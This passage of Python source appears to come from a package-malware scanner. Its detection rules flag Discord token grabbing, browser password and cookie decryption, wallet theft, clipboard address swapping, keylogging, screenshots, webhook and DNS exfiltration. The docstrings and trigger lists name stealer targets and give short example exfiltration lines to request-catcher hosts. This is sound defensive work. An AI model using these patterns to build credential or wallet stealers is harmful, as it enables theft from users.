    triggers=_DISCORD_TRIGGERS,
    tags=(Tag.SECRET_READ,),
)
def discord_token_harvest(node: ast.Module, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags a file that hunts for Discord tokens: a regular expression shaped
    like a token (`[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}`, `mfa\\.…`, the encrypted prefix
    `dQw4w9WgXcQ:`), or Discord's `Local Storage/leveldb` folder read together with `.ldb`
    files or calls to the account API (`users/@me`).

    Why it matters: a Discord token is a full login to the victim's account, and token
    grabbers are among the most common malware on package indexes. Discord libraries talk to
    the API with a token they are given; they never search disk storage for one.

    Example: `re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", line)` over files in
    `%APPDATA%/discord/Local Storage/leveldb`.
    """
    ev = _evidence(ctx)
    regex = ev.get("discord:token regex", [])
    storage = [
        x
        for k, v in ev.items()
        if k.startswith("discord:") and k != "discord:token regex"
        for x in v
    ]
    extra = [
        k
        for k in ("discordapi:account API", "leveldb:files", "decrypt:CryptUnprotectData")
        if k in ev
    ]
    if regex:
        what = "a Discord token regular expression" + (
            " and Discord's leveldb storage" if storage else ""
        )
        yield _module_hit(ctx, _first(regex), f"searches for Discord tokens: {what}")
    elif storage and extra:
        yield _module_hit(ctx, _first(storage), "reads Discord's Local Storage leveldb together with "
                          + ", ".join(k.split(":")[1] for k in extra))  # fmt: skip


_BROWSER_TRIGGERS = (b"Login Data", b"Cookies", b"cookies.sqlite", b"Local State", b"logins.json",
                     b"key4.db", b"key3.db", b"Web Data", b"User Data", b"CryptUnprotectData",
                     b"signons")  # fmt: skip


@node_rule(
    "DOU504",
    "browser_credential_harvest",
    family=Family.EXFILTRATION,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Module,),
    triggers=_BROWSER_TRIGGERS,
    tags=(Tag.SECRET_READ,),
)
def browser_credential_harvest(node: ast.Module, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags a file that reads browsers' saved passwords (`Login Data`,
    `logins.json`/`key4.db`) together with their decryption (`CryptUnprotectData`, the
    `Local State` master key / `encrypted_key`), or saved passwords across several browsers.
    Cookie stores with decryption alone, or passwords alone, are MEDIUM.

    Why it matters: the saved-password database is the stealer's main prize. Cookie readers
    exist in benign tools (downloaders that reuse the user's login cookies), which is why
    the password store, not cookies, is what makes this HIGH.

    Example: copying `…/Google/Chrome/User Data/Default/Login Data` to a temp file, querying
    `logins`, and decrypting each `password_value` with the key from `Local State`.
    """
    ev = _evidence(ctx)
    passwords = [
        x
        for k, v in ev.items()
        if k in ("browser:browser saved passwords (Login Data)", "browser:Firefox saved passwords")
        for x in v
    ]
    cookies = ev.get("browser:browser cookies", []) + ev.get(
        "browser:browser card/autofill data (Web Data)", []
    )
    decrypt = (
        ev.get("decrypt:CryptUnprotectData", [])
        + ev.get("browser:master key", [])
        + ev.get("browser:browser master key (Local State)", [])
    )
    profiles = {text for _, text in ev.get("browser:browser profile folder", [])}
    browsers = {
        m.group(0).lower()
        for t in profiles
        for m in [re.search(r"chrome|edge|brave|opera|yandex|vivaldi|chromium|firefox", t, re.I)]
        if m
    }
    if passwords and (decrypt or len(browsers) >= 2):
        yield _module_hit(ctx, _first(passwords), "reads browsers' saved passwords"
                          + (" and decrypts them" if decrypt else f" across {len(browsers)} browsers"))  # fmt: skip
    elif passwords:
        yield _module_hit(
            ctx,
            _first(passwords),
            "reads a browser's saved-password store",
            severity=Severity.MEDIUM,
        )
    elif cookies and decrypt:
        yield _module_hit(
            ctx, _first(cookies), "reads and decrypts browser cookies", severity=Severity.MEDIUM
        )


_WALLET_TRIGGERS = (b"wallet", b"Wallet", b"nkbihfbeogaeaoehlefnkodbefgpgknn", b"bfnaelmomeimhlpmgjnjophhpkkoljpa",
                    b"hnfanknocfeofbddgcijnmhnfnkdnaad", b"fhbohimaelbohpjbbldcngcnapndodjp",
                    b"ibnejdfjmmkpcnlpebklmnkoeoihofec", b"Exodus", b"exodus", b"Electrum", b"electrum",
                    b"Local Storage", b"Ethereum", b"solana", b"Armory", b"Coinomi", b"Guarda", b"Jaxx",
                    b"Zcash", b"Monero", b"Bytecoin")  # fmt: skip


@node_rule(
    "DOU505",
    "crypto_wallet_access",
    family=Family.EXFILTRATION,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Module,),
    triggers=_WALLET_TRIGGERS,
    tags=(Tag.SECRET_READ,),
)
def crypto_wallet_access(node: ast.Module, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags a file that names the storage of crypto wallets: browser-extension
    wallets by their extension id (MetaMask `nkbihfbeogaeaoehlefnkodbefgpgknn`, Phantom,
    Coinbase, Binance, TronLink), desktop wallets (Exodus, Electrum, Atomic, Armory, Coinomi,
    Guarda, Jaxx, Zcash, Monero), `wallet.dat`, Ethereum keystores and the Solana keypair.

    Why it matters: wallet files hold the keys to funds; once copied, the theft cannot be
    undone. One wallet named alone is MEDIUM (wallet tools read their own files; the Solana
    CLI keypair alone is LOW); extension storage or two or more wallets is HIGH.

    Example: a list of `%APPDATA%/Exodus/exodus.wallet`, `Electrum/wallets` and
    `Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn` folders zipped up.
    """
    ev = _evidence(ctx)
    wallets = {k.split(":", 1)[1]: v for k, v in ev.items() if k.startswith("wallet:")}
    if not wallets:
        return
    first = _first(x for v in wallets.values() for x in v)
    labels = sorted(wallets)
    ext = [lb for lb in labels if "extension" in lb]
    if ext or len(labels) >= 2:
        yield _module_hit(
            ctx, first, f"names the storage of crypto wallets: {', '.join(labels[:5])}"
        )
    elif labels == ["Solana keypair"]:
        yield _module_hit(ctx, first, "reads the Solana CLI keypair file", severity=Severity.LOW)
    else:
        yield _module_hit(
            ctx, first, f"names a crypto wallet's storage: {labels[0]}", severity=Severity.MEDIUM
        )


@node_rule(
    "DOU506",
    "clipboard_read",
    family=Family.EXFILTRATION,
    severity=Severity.INFO,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    triggers=(
        all_of(
            (b"paste", b"GetClipboardData", b"clipboard_get", b"klembord"),
            written_names(CLIPBOARD_READ, prefer=("klembord",)) | {b"clipboard_get"},
        ),
    ),
    tags=(Tag.SECRET_READ,),
)
def clipboard_read(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags reads of the clipboard (`pyperclip.paste`, `win32clipboard.
    GetClipboardData`, Tk's `clipboard_get`).

    Why it matters: users copy passwords, keys and seed phrases; spyware polls the clipboard.
    Many desktop tools read it for ordinary reasons, so this is INFO and only matters when
    the content is sent (DOU511) or swapped (DOU507).

    Example: `text = pyperclip.paste()` in a loop that posts what it reads.
    """
    name = ctx.call_name(node)
    if name in CLIPBOARD_READ or tail(name) == "clipboard_get":
        yield ctx.hit(node, f"`{name}` reads the clipboard")


_ADDRESS_RE = re.compile(r"(bc1|\[13\]|\^\(bc1\||\[13\]\[a-km-zA-HJ-NP-Z1-9\]|0x\[a-fA-F0-9\]\{40\}|"
                         r"0x\[0-9a-fA-F\]\{40\}|\^T\[|\^4\[0-9AB\]|L\[a-km-zA-HJ-NP-Z1-9\]|"
                         r"\^\[13\]|\{25,3[49]\}|\{32,44\}|\{33\})")  # fmt: skip


@node_rule(
    "DOU507",
    "clipboard_address_swap",
    family=Family.EXFILTRATION,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Module,),
    # a read and a write of the clipboard, by the module names that spell them
    triggers=(
        all_of(
            (b"paste", b"GetClipboardData", b"clipboard_get"),
            written_names(CLIPBOARD_READ, prefer=_CLIPBOARD_MODULES) | {b"clipboard_get"},
            written_names(CLIPBOARD_WRITE, prefer=_CLIPBOARD_MODULES)
            | {b"clipboard_append", b"SetClipboardText"},
        ),
    ),
    tags=(Tag.SECRET_READ, Tag.EVADE),
)
def clipboard_address_swap(node: ast.Module, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags a file that reads the clipboard, matches it against a crypto
    address pattern (Bitcoin, Ethereum `0x…{40}`, Tron, Monero, Litecoin) and writes the
    clipboard back.

    Why it matters: this is a "clipper": when the victim copies a wallet address to pay,
    the malware swaps in the attacker's address, and the payment goes astray. Benign
    clipboard managers do not match wallet-address shapes before rewriting.

    Example: `if re.match(r"^0x[a-fA-F0-9]{40}$", pyperclip.paste()): pyperclip.copy(ATTACKER)`.
    """
    reads, writes, regexes = [], [], []
    for n in ast.walk(node):
        if isinstance(n, ast.Call):
            name = ctx.call_name(n)
            if name in CLIPBOARD_READ or tail(name) == "clipboard_get":
                reads.append(n)
            elif name in CLIPBOARD_WRITE or tail(name) in ("clipboard_append", "SetClipboardText"):
                writes.append(n)
        elif isinstance(n, ast.Constant) and isinstance(n.value, str) and len(n.value) < 300:
            if _ADDRESS_RE.search(n.value) and re.search(r"[\[\]{}]", n.value):
                regexes.append(n)
    if reads and writes and regexes:
        yield _module_hit(
            ctx, reads[0], "reads the clipboard, matches crypto addresses and rewrites it (clipper)"
        )


@node_rule(
    "DOU508",
    "screen_capture",
    family=Family.EXFILTRATION,
    severity=Severity.INFO,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    triggers=(
        all_of(
            (
                b"ImageGrab",
                b"screenshot",
                b"mss.mss",
                b"from mss",
                b"import mss",
                b"d3dshot",
                b"pyscreenshot",
            ),
            written_names(SCREENSHOT, prefer=("ImageGrab", "pyscreenshot", "d3dshot"))
            | {b"ImageGrab"},
        ),
    ),  # fmt: skip
    tags=(Tag.SECRET_READ,),
)
def screen_capture(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags screen captures (`ImageGrab.grab`, `pyautogui.screenshot`,
    `mss`, `pyscreenshot`, `d3dshot`).

    Why it matters: stealers attach a screenshot of the victim's desktop to what they send.
    Automation and testing tools take screenshots too: INFO, weighed with a send.

    Example: `ImageGrab.grab().save(tmp)` followed by an upload to a webhook.
    """
    name = ctx.call_name(node) or ""
    if name in SCREENSHOT or name.endswith("ImageGrab.grab"):
        yield ctx.hit(node, f"`{name}` captures the screen")


@node_rule(
    "DOU509",
    "keystroke_capture",
    family=Family.EXFILTRATION,
    severity=Severity.LOW,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Call,),
    triggers=(
        all_of(
            (
                b"Listener",
                b"on_press",
                b"on_release",
                b"GetAsyncKeyState",
                b"HookManager",
                b"SetWindowsHookEx",
                b"keyboard.hook",
                b"keyboard.record",
            ),
            written_names(KEYLOG, prefer=("Listener",))
            | {b"GetAsyncKeyState", b"SetWindowsHookExW", b"SetWindowsHookExA"},
        ),
    ),  # fmt: skip
    tags=(Tag.SECRET_READ,),
)
def keystroke_capture(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags global keyboard hooks: `pynput.keyboard.Listener`,
    `keyboard.on_press`/`hook`/`record`, `GetAsyncKeyState`, `SetWindowsHookEx`, `pyxhook`.

    Why it matters: a global hook sees every key typed in every program, passwords included;
    that is what a keylogger is. Hotkey tools and games use the same APIs, so LOW alone.

    Example: `pynput.keyboard.Listener(on_press=log_key).start()` in a package's import.
    """
    name = ctx.call_name(node) or ""
    if name in KEYLOG or name.endswith(("user32.GetAsyncKeyState", "user32.SetWindowsHookExW",
                                        "user32.SetWindowsHookExA")):  # fmt: skip
        yield ctx.hit(node, f"`{name}` captures keystrokes system-wide")


# -- rules: destinations and flows -------------------------------------------------------------

_SEND_TRIGGERS = (
    # a URL that starts a string literal (not one inside a docstring or comment: those are
    # in 29 % of benign files), or the base64 of "http"
    anchored(rb"""['"](?:https?|wss?|ftp)://|aHR0c""", b"://", b"aHR0c"),
    b"requests", b"urlopen", b"urllib", b"httpx", b"socket", b"Webhook", b"curl",
                  b"wget", b"aiohttp", b"webhook")  # fmt: skip


@node_rule(
    "DOU510",
    "send_to_fixed_drop_destination",
    family=Family.EXFILTRATION,
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    nodes=(ast.Module,),
    triggers=_SEND_TRIGGERS,
    tags=(Tag.NETWORK_SEND, Tag.FIXED_DESTINATION),
)
@gated(_may_send_to_drop, keys=_CANDIDATE_KEYS)
@standalone
def send_to_fixed_drop_destination(node: ast.Module, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags a request that sends data (POST/PUT, attached data or params,
    data in the URL, a webhook client, a `curl -d`) to a destination written in the code
    whose kind tells who reads it: a Discord/Slack/Teams webhook or Telegram bot with its
    secret in the code, a paste site, a tunnel or request catcher (ngrok, pipedream,
    webhook.site, interactsh/Burp/OAST), a mock-API or JSON-bin host, a file-sharing host, a
    dynamic-DNS name, or a raw public IP. A bare GET to a request catcher counts too (the
    request itself reports the install). HIGH for out-of-band testing hosts (OAST, Burp,
    canarytokens, webhook.site), LOW for paste sites and file drops (developer tools such as
    `pytest --pastebin` post there when asked), MEDIUM otherwise.

    Why it matters: a package's own service has its own domain. Data sent to a webhook or a
    catcher is read by whoever holds that URL, which is how install-time stealers and
    dependency-confusion probes report home. Webhook URLs taken from configuration are left
    alone: the data goes where the user says.

    Example: `requests.post("https://discord.com/api/webhooks/1/AbC…", json=payload)`.
    """
    if not _may_send(ctx.file, need_drop=True):
        return
    facts = facts_for(ctx)
    for send in facts.sends:
        if not send.fixed or send.kind not in ind.DROP_KINDS:
            continue
        if not send.carries_data and send.kind not in ind.CALLBACK_KINDS:
            continue
        # paste sites and file drops also serve developer tools the user invokes (pytest
        # --pastebin, share commands): LOW unless a flow shows secrets going there (DOU511)
        sev = (
            Severity.HIGH
            if send.oob
            else Severity.LOW
            if send.kind in (ind.PASTE, ind.FILE_HOST) and not send.dead_drop
            else None
        )
        verb = "sends data to" if send.carries_data else "calls"
        if send.dead_drop:
            verb = "sends data to a URL it reads at run time from"
        yield _module_hit(ctx, send.node, f"`{send.api}` {verb} {_kind_word(send)}", severity=sev)


@node_rule(
    "DOU511",
    "secret_sent_to_fixed_destination",
    family=Family.EXFILTRATION,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    nodes=(ast.Module,),
    triggers=_SEND_TRIGGERS,
    tags=(Tag.SECRET_READ, Tag.NETWORK_SEND, Tag.FIXED_DESTINATION),
)
@gated(_may_send_anywhere, keys=_CANDIDATE_KEYS)
@standalone
def secret_sent_to_fixed_destination(node: ast.Module, ctx: PyContext) -> Iterator[Hit]:
    """What it does: follows data from what it reads to where it is sent, in the same
    function, through module variables, through functions that return it, and into helper
    functions that post their argument. It flags a send to a destination fixed in the code
    when the data carries:
    * secrets (the whole environment, credential files, Discord tokens, browser or wallet
      data, the clipboard, a screenshot, cloud metadata credentials): CRITICAL to a drop
      destination (webhook, paste, tunnel, mock API, file host, raw IP, dynamic DNS), HIGH to
      any other hard-coded host;
    * a single secret-named value (`os.getenv("AWS_SECRET_ACCESS_KEY")`, a `private_key`
      argument): HIGH, to drop destinations only (a client sending its own API key to its own
      service is normal);
    * the host name, user name, public IP or a listing of system folders: HIGH to a drop
      destination, MEDIUM to another hard-coded host.
    When a file reads secrets and sends to a drop destination but the flow between them is
    lost (files copied to a temp folder, zipped, then uploaded), it reports HIGH with LOW
    confidence.

    Why it matters: this is the act of theft itself, not a capability: data the user never
    chose to share leaves for a place the package author controls. Hashing (`hashlib`)
    breaks the flow, so anonymous telemetry ids are not reported.

    Example: `requests.post("https://x.mockapi.io/keys", json={"k": private_key})` inside an
    ordinary-looking `create_wallet()` function.
    """
    if not _may_send(ctx.file, need_drop=False):
        return
    facts = facts_for(ctx)
    reported: set[int] = set()
    for send, data in sorted(facts.flows, key=lambda f: -f[1].level):
        if id(send.node) in reported:
            continue
        drop = send.kind in ind.DROP_KINDS
        if data.level >= STRONG:
            sev = Severity.CRITICAL if drop else Severity.HIGH
        elif data.level == NAMED_SECRET:
            if not drop:
                continue
            sev = Severity.HIGH
        elif data.level == FINGERPRINT:
            sev = Severity.HIGH if drop else Severity.MEDIUM
        else:
            continue
        if (
            data.level == FINGERPRINT
            and not drop
            and (_has_opt_out(ctx) or ind.is_ip_lookup("http://" + send.host))
        ):
            continue  # telemetry the user can turn off; an address sent to a geo-IP service
        reported.add(id(send.node))
        via = f" through `{send.via}()`" if send.via else ""
        yield _module_hit(
            ctx,
            send.node,
            f"`{send.api}`{via} sends {data.label} to {_kind_word(send)}",
            severity=sev,
        )
    if reported or not facts.strong_reads:
        return
    for send in facts.sends:
        if send.fixed and send.carries_data and send.kind in ind.DROP_KINDS:
            read_node, label = facts.strong_reads[0]
            yield _module_hit(ctx, send.node, f"this file reads {label} (line {getattr(read_node, 'lineno', '?')}) "
                              f"and `{send.api}` sends data to {_kind_word(send)}",
                              severity=Severity.HIGH, confidence=Confidence.LOW)  # fmt: skip
            return


_IP_WORDS = (b"ipify", b"ipinfo", b"ifconfig", b"icanhazip", b"ident.me", b"ip-api", b"ipapi",
             b"checkip", b"myip", b"ipwho", b"seeip")  # fmt: skip
_OPT_OUT = re.compile(
    rb"DO_NOT_TRACK|[A-Z_]*(TELEMETRY|ANALYTICS|TRACKING)[A-Z_]*|opt[_-]?out", re.IGNORECASE
)


def _has_opt_out(ctx: PyContext) -> bool:
    return bool(_OPT_OUT.search(ctx.file.member.data))


@node_rule(
    "DOU512",
    "system_fingerprinting",
    family=Family.EXFILTRATION,
    severity=Severity.INFO,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    # the call names it reads, or the lookup services it asks (any call with their URL);
    # `platform` is mostly prose and user-agent strings
    triggers=(
        *_IP_WORDS,
        all_of(
            (
                b"gethostname",
                b"getfqdn",
                b"uname",
                b"getuser",
                b"getlogin",
                b"getnode",
                b"platform",
                b"GetUserName",
                b"GetComputerName",
            ),
            written_names(FINGERPRINT_CALLS)
            | {
                anchored(re.escape(h.encode()), h.encode())
                for h in ind.IP_LOOKUP_SUFFIXES
                if not any(w.decode() in h for w in _IP_WORDS)
            },
        ),
    ),  # fmt: skip
    tags=(),
)
def system_fingerprinting(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags calls that identify the machine or its user: host name
    (`socket.gethostname`, `platform.node`), user name (`getpass.getuser`, `os.getlogin`),
    `os.uname`, the MAC address (`uuid.getnode`), and "what is my IP" services (ipify,
    ipinfo, ifconfig.me...; LOW).

    Why it matters: dependency-confusion probes and stealers report who and where they ran.
    Logging and CLIs use the same calls every day, so this is INFO (no SECRET_READ tag: it is
    reconnaissance, not theft); DOU511 reports it when it is sent to a fixed destination.

    Example: `requests.get("https://api.ipify.org").text` in `setup.py`.
    """
    name = ctx.call_name(node)
    if name in FINGERPRINT_CALLS:
        yield ctx.hit(node, f"`{name}` reads the {FINGERPRINT_CALLS[name]}")
        return
    if node.args:
        url = ctx.const_str(node.args[0])
        if url and "://" in url and ind.is_ip_lookup(url):
            yield ctx.hit(
                node, f"`{name}` looks up the machine's public IP address", severity=Severity.LOW
            )


_RESOLVERS = frozenset({"socket.gethostbyname", "socket.gethostbyname_ex", "socket.getaddrinfo",
                        "dns.resolver.resolve", "dns.resolver.query", "dns.resolver.Resolver.resolve",
                        "dns.resolver.Resolver.query", "socket.create_connection"})  # fmt: skip
_DNS_CMD = re.compile(r"\b(nslookup|dig|host|ping|drill)\b[^|;&\n]*?(\$\(|`|\$\{?\w+|%\w+%|…)[^\s.]*\.((?:[\w-]+\.)+[a-z]{2,})",
                      re.IGNORECASE)  # fmt: skip


def _has_encoder(expr: ast.AST, ctx: PyContext) -> bool:
    return any(
        isinstance(c, ast.Call) and tail(ctx.call_name(c)) in _ENCODERS for c in ast.walk(expr)
    )


_ENCODERS = ("hexlify", "b32encode", "b64encode", "b16encode", "hex", "urlsafe_b64encode", "encode")


@node_rule(
    "DOU513",
    "dns_exfiltration",
    family=Family.EXFILTRATION,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Call,),
    # a resolver call (or a `dns` module's resolve), or a process running a lookup command
    triggers=(
        all_of(
            (
                b"gethostbyname",
                b"getaddrinfo",
                b"resolver",
                b"nslookup",
                b"dig ",
                b"ping -",
                b"ping $",
                b"ping `",
            ),
            written_names(_RESOLVERS) | EXEC_NAMES | {anchored(rb"\bdns", b"dns")},
        ),
    ),  # fmt: skip
    tags=(Tag.NETWORK_SEND, Tag.FIXED_DESTINATION),
)
def dns_exfiltration(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags DNS lookups of a host name built from data under a fixed domain:
    `socket.gethostbyname(f"{encoded}.x.oast.fun")`, `dns.resolver.resolve(...)`, or
    `nslookup $(whoami).domain` in a shell command. HIGH when the data is the host or user
    name, a secret or an encoding of one, or the domain is an out-of-band/tunnel host; an
    encoded chunk (hex/base32/base64) under any fixed domain is MEDIUM.

    Why it matters: DNS leaves networks that block web traffic, and the lookup itself
    carries the data to the domain's name server. Ordinary lookups resolve a configured
    host, not a label made of data glued to a constant domain.

    Example: `socket.gethostbyname(binascii.hexlify(token).decode() + ".t.example.invalid")`.
    """
    name = ctx.call_name(node)
    if matches(name, _RESOLVERS) or (
        tail(name) in ("resolve", "query") and (name or "").startswith("dns")
    ):
        if not node.args:
            return
        arg = node.args[0]
        if isinstance(arg, ast.Tuple) and arg.elts:
            arg = arg.elts[0]
        if isinstance(arg, ast.Name):  # du = f"{data}.x.oast.fun"; gethostbyname(du)
            bound = _local_value(arg.id, _scope_node(ctx), node, ctx.tree)
            arg = bound if bound is not None else arg
        text = loose_str(arg, ctx)
        if not text or HOLE not in text:
            return
        m = re.search(re.escape(HOLE) + r"[\w-]*\.((?:[\w-]+\.)+[A-Za-z]{2,})\.?$", text)
        if not m or _LOCAL_HOST.search(m.group(1).lower()):
            return
        domain = m.group(1).lower()
        facts = facts_for(ctx)
        scope = _scope_node(ctx)
        names, paths, _ = _analyse_scope(facts, scope, {}, {}, {})
        data = _Tainter(facts, names, paths, {}).taint(arg)
        kind = ind.host_kind(domain)
        encoded_names = {
            k
            for n in ast.walk(scope)
            if isinstance(n, ast.Assign) and _has_encoder(n.value, ctx)
            for t in n.targets
            for k in _targets(t)
        }
        encoded = _has_encoder(arg, ctx) or any(
            isinstance(c, ast.Name) and c.id in encoded_names for c in ast.walk(arg)
        )
        if (data is not None and data.level > 0) or kind in ind.DROP_KINDS:
            what = data.label if data is not None and data.level > 0 else "data"
            yield ctx.hit(node, f"`{name}` looks up a name carrying {what} under {domain}")
        elif encoded:
            yield ctx.hit(
                node, f"`{name}` looks up an encoded label under {domain}", severity=Severity.MEDIUM
            )
        return
    if is_exec_call(name):
        cmd = command_of(node, ctx)
        if cmd:
            m = _DNS_CMD.search(cmd)
            if m and not _LOCAL_HOST.search(m.group(3).lower()):
                yield ctx.hit(
                    node,
                    f"`{name}` runs a DNS lookup of a name built from command output under {m.group(3)}",
                )


# -- rules: code that does not parse (old Python 2, broken on purpose) and scripts -------------

_TEXT_TYPES = (FileType.PYTHON, FileType.SHELL, FileType.WINDOWS_SCRIPT, FileType.JAVASCRIPT)
_SEND_WORDS = re.compile(r"\b(post|put|urlopen|Request|request|curl|wget|Invoke-WebRequest|Invoke-RestMethod|"
                         r"iwr|irm|fetch|XMLHttpRequest|axios|sendall|send_message|sendDocument|webhook|"
                         r"DiscordWebhook|UploadFile|UploadString|UploadData)\b", re.IGNORECASE)  # fmt: skip


def _text_drop_urls(ctx: FileContext) -> Iterator[tuple[int, str, str | None, str]]:
    text = ctx.text
    for start, end in _url_line_spans(text):
        for m in ind.URL_RE.finditer(text, start, end):
            url = m.group(0).rstrip(".,;:!?)]}'\"")
            kind, host, fixed, _ = destination(url)
            if fixed and kind in ind.DROP_KINDS:
                yield m.start(), url, kind, host


@file_rule(
    "DOU514",
    "drop_destination_in_unparsed_code",
    family=Family.EXFILTRATION,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    file_types=_TEXT_TYPES,
    only_unparsed=True,
    triggers=(b"://",),
    tags=(Tag.NETWORK_SEND, Tag.FIXED_DESTINATION),
)
def drop_destination_in_unparsed_code(ctx: FileContext) -> Iterator[Hit]:
    """What it does: in code the AST rules cannot read (Python that does not parse, such as
    Python 2 or deliberately broken files, and shell, Windows and JavaScript files), flags a
    line that sends (`post`, `urlopen`, `curl`, `Invoke-WebRequest`, `fetch`...) next to a
    fixed drop destination: a webhook with its secret, a paste site, a tunnel or request
    catcher, a mock-API or file host, dynamic DNS, a raw IP. HIGH for out-of-band hosts.

    Why it matters: the same destinations DOU510 looks for, in the files it cannot see.
    Old stealers are often Python 2, and scripts shipped in a package run with the same
    rights as its code.

    Example: `curl -X POST -d @/tmp/x https://fixture.m.pipedream.net` in `install.sh`.
    """
    for offset, url, kind, host in _text_drop_urls(ctx):
        line = ctx.line_text(ctx.line_of(offset))
        if not _SEND_WORDS.search(line) and kind not in ind.CALLBACK_KINDS:
            continue
        oob = any(host == s or host.endswith("." + s) for s in OOB_SUFFIXES)
        word = _kind_word(Send(ast.Pass(), "", url, kind, host, True, True))
        yield ctx.hit_at(offset, f"code that cannot be parsed sends to {word}",
                         severity=Severity.HIGH if oob else None)  # fmt: skip
        return


_STEALER_TEXT = (
    ("Discord token storage", re.compile(r"Local Storage[\\/]+leveldb|dQw4w9WgXcQ:|\{24\}\\?\.\[.{0,8}\]\{6\}", re.I)),
    ("browser saved passwords", re.compile(r"Login Data|logins\.json|key4\.db", re.I)),
    ("browser master key", re.compile(r"encrypted_key|CryptUnprotectData")),
    ("crypto wallet storage", re.compile(r"nkbihfbeogaeaoehlefnkodbefgpgknn|exodus\.wallet|Electrum[\\/]+wallets|wallet\.dat", re.I)),
)  # fmt: skip


@file_rule(
    "DOU515",
    "stealer_targets_in_unparsed_code",
    family=Family.EXFILTRATION,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    file_types=_TEXT_TYPES,
    only_unparsed=True,
    triggers=(
        b"leveldb",
        b"dQw4w9WgXcQ",
        b"{24}",
        b"Login Data",
        b"logins.json",
        b"key4.db",
        b"encrypted_key",
        b"CryptUnprotectData",
        b"nkbihfbeogaeaoehlefnkodbefgpgknn",
        b"exodus.wallet",
        b"wallets",
        b"wallet.dat",
    ),  # fmt: skip
    tags=(Tag.SECRET_READ,),
)
def stealer_targets_in_unparsed_code(ctx: FileContext) -> Iterator[Hit]:
    """What it does: in code the AST rules cannot read (see DOU514), flags a file that names
    two or more stealer targets: Discord token storage (leveldb, the token pattern), browser
    saved passwords, the browser master key (`encrypted_key`, `CryptUnprotectData`), wallet
    storage (MetaMask's extension id, `exodus.wallet`, `wallet.dat`).

    Why it matters: DOU503-505 read the AST; this is their fallback for Python 2 stealers and
    for scripts. One target alone can be a benign tool; several together are a stealer's
    shopping list.

    Example: a Python 2 file listing `Local Storage\\leveldb`, `Login Data` and
    `CryptUnprotectData`.
    """
    text = ctx.text
    found = []
    for label, pattern in _STEALER_TEXT:
        m = pattern.search(text)
        if m:
            found.append((m.start(), label))
    if len(found) >= 2:
        found.sort()
        yield ctx.hit_at(found[0][0], "code that cannot be parsed names stealer targets: "
                         + ", ".join(label for _, label in found))  # fmt: skip
